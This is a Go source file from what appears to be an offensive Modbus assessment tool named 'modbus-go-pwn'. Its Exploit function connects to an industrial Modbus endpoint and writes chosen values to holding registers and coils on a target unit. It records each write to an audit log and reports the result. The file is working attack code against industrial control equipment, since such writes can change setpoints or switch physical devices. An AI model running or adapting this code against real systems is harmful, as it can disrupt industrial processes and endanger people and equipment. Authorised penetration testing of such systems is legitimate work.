package assess

import (
	"context"
	"fmt"

	"github.com/sirupsen/logrus"

	"modbus-tools/modbus-go-pwn/client"
	"modbus-tools/modbus-go-pwn/database"
)

const (
	StatusCompleted = "completed"
	StatusError     = "error"
)

// Exploit performs the selected writes over one connection and returns once they are done.
// Exception responses are recorded per write; a transport fault aborts the remaining writes.
func (a *Assessor) Exploit(ctx context.Context, ep Endpoint, unitID byte, ops ExploitOps) (report ExploitReport) {
	log := a.log.WithFields(logrus.Fields{"target": ep.String(), "unit": unitID})
	c := a.dial(ep.String(), a.timing.ExploitTimeout)
	defer c.Close()
	defer func() {
		if r := recover(); r != nil {
			log.Errorf("exploit fault: %v", r)
			report.Status, report.Error = StatusError, fmt.Sprint(r)
		}
	}()

	if err := ctx.Err(); err != nil {
		return ExploitReport{Status: StatusError, Error: err.Error()}
	}
	if err := c.Connect(); err != nil {
		log.Warnf("exploit connect failed: %v", err)
		return ExploitReport{Status: StatusError, Error: "Failed to connect to Modbus server."}
	}

	if op := ops.WriteRegister; op != nil {
		err := c.WriteRegister(op.Address, op.Value, unitID)
		a.audit(ep, int(unitID), database.EventExploitWrite, fmt.Sprintf("register %d=%d", op.Address, op.Value))
		outcome, fault := writeOutcome(op.Address, int(op.Value), err)
		if fault {
			report.Status, report.Error = StatusError, err.Error()
			return report
		}
		report.WriteRegister = &outcome
	}
	if op := ops.WriteCoil; op != nil {
		err := c.WriteCoil(op.Address, op.Value, unitID)
		a.audit(ep, int(unitID), database.EventExploitWrite, fmt.Sprintf("coil %d=%v", op.Address, op.Value))
		outcome, fault := writeOutcome(op.Address, op.Value, err)
		if fault {
			report.Status, report.Error = StatusError, err.Error()
			return report
		}
		report.WriteCoil = &outcome
	}
	report.Status = StatusCompleted
	log.Infof("exploit completed")
	return report
}

// writeOutcome reports fault=true when err is not a protocol exception.
func writeOutcome(address uint16, value any, err error) (WriteOutcome, bool) {
	o := WriteOutcome{Address: address, Value: value, Status: OutcomeSuccess}
	if err == nil {
		return o, false
	}
	if _, ok := client.AsException(err); !ok {
		return o, true
	}
	o.Status, o.Details = OutcomeFailed, err.Error()
	return o, false
}
